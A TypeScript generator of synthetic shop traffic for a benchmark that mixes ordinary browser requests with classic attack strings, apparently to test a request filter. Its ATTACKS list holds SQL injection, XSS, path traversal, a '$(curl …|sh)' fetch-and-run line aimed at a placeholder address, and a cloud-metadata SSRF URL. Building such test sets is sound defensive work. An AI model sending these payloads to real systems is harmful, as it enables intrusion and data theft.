/**
 * A mix of requests made here, for machines without the request sets: browsers, JSON and form clients of an invented
 * shop, and plain attacks in the places where such a shop would take them. It keeps the benchmark runnable; it says
 * little about real traffic.
 */
import type { BenchRequest } from "./mix.ts";
import { chance, createRandom, pick, type Random } from "./random.ts";

const AGENTS = [
  "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.4 Safari/605",
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:144.0) Gecko/20100101 Firefox/144.0",
] as const;
const PATHS = [
  "/",
  "/catalogue",
  "/cart",
  "/api/v2/orders",
  "/api/v2/orders/18277/items",
  "/static/app.3fa9c1.js",
] as const;
const WORDS = [
  "ladder",
  "oak",
  "table",
  "select",
  "delivery",
  "union",
  "station",
  "O'Neil",
  "blue & white",
  "30% off",
  "where",
  "C++",
  "a<b",
  "order",
  "two-seater",
  "naïve",
  "Zürich",
  "drop-leaf",
  "script",
  "cup and saucer",
] as const;
const ATTACKS = [
  "1' OR '1'='1' -- ",
  "-1 UNION SELECT login, secret FROM members",
  "7; DROP TABLE orders",
  "<script>alert(document.domain)</script>",
  '"><img src=x onerror=confirm(1)>',
  "javascript:alert(1)",
  "../../../../etc/passwd",
  "..%2f..%2f..%2fwindows%2fwin.ini",
  "; cat /etc/passwd",
  "$(curl http://198.51.100.7/x|sh)",
  "{{7*7}}",
  "http://169.254.169.254/latest/meta-data/",
] as const;

/** Makes `count` requests, one attack in four. The same count always gives the same requests. */
export function syntheticMix(count: number): BenchRequest[] {
  const random = createRandom(0x6d65726c);
  return Array.from({ length: count }, (_, index) => makeRequest(random, index, index % 4 === 3));
}

function makeRequest(random: Random, index: number, attack: boolean): BenchRequest {
  const payload = attack ? pick(random, ATTACKS) : null;
  const rawHeaders = browserHeaders(random);
  const target = pick(random, PATHS);
  const kind = random(3);
  if (kind === 0) {
    return finish(index, attack, "GET", `${target}?${form(random, 1 + random(6), payload)}`, rawHeaders, "");
  }
  if (kind === 1) {
    rawHeaders.push("Content-Type", "application/x-www-form-urlencoded");
    return finish(index, attack, "POST", target, rawHeaders, form(random, 2 + random(20), payload));
  }
  rawHeaders.push("Content-Type", "application/json");
  return finish(index, attack, "POST", target, rawHeaders, json(random, 1 + random(30), payload));
}

function finish(
  index: number,
  attack: boolean,
  method: string,
  target: string,
  rawHeaders: string[],
  text: string,
): BenchRequest {
  const body = new TextEncoder().encode(text);
  if (body.length > 0) rawHeaders.push("Content-Length", String(body.length));
  const head = rawHeaders.reduce((bytes, part) => bytes + part.length + 2, method.length + target.length + 14);
  return { id: `synthetic-${index}`, attack, method, target, rawHeaders, body, wireBytes: head + body.length };
}

function browserHeaders(random: Random): string[] {
  const headers = [
    "Host",
    "shop.example",
    "User-Agent",
    pick(random, AGENTS),
    "Accept",
    "text/html,application/json;q=0.9,*/*;q=0.8",
    "Accept-Language",
    "en-GB,en;q=0.7,de;q=0.3",
    "Accept-Encoding",
    "gzip, deflate, br",
  ];
  if (chance(random, 0.7)) headers.push("Referer", `https://shop.example${pick(random, PATHS)}?q=${phrase(random, 2)}`);
  if (chance(random, 0.8)) {
    const cookies = Array.from({ length: 1 + random(8) }, (_, at) => `c${at}=${hexadecimal(random, 8 + random(40))}`);
    headers.push("Cookie", cookies.join("; "));
  }
  return headers;
}

function form(random: Random, fields: number, payload: string | null): string {
  const at = random(fields);
  return Array.from({ length: fields }, (_, field) => {
    const value = payload !== null && field === at ? encodeURIComponent(payload) : phrase(random, 1 + random(8));
    return `field${field}=${value}`;
  }).join("&");
}

function json(random: Random, entries: number, payload: string | null): string {
  const at = random(entries);
  const items = Array.from({ length: entries }, (_, entry) => ({
    id: random(1e6),
    note: payload !== null && entry === at ? payload : decodeURIComponent(phrase(random, 1 + random(12))),
    tags: [pick(random, WORDS), pick(random, WORDS)],
    price: random(1e5) / 100,
    gift: chance(random, 0.5),
  }));
  return JSON.stringify({ customer: hexadecimal(random, 24), items });
}

function phrase(random: Random, words: number): string {
  return encodeURIComponent(Array.from({ length: words }, () => pick(random, WORDS)).join(" "));
}

function hexadecimal(random: Random, digits: number): string {
  return Array.from({ length: digits }, () => random(16).toString(16)).join("");
}
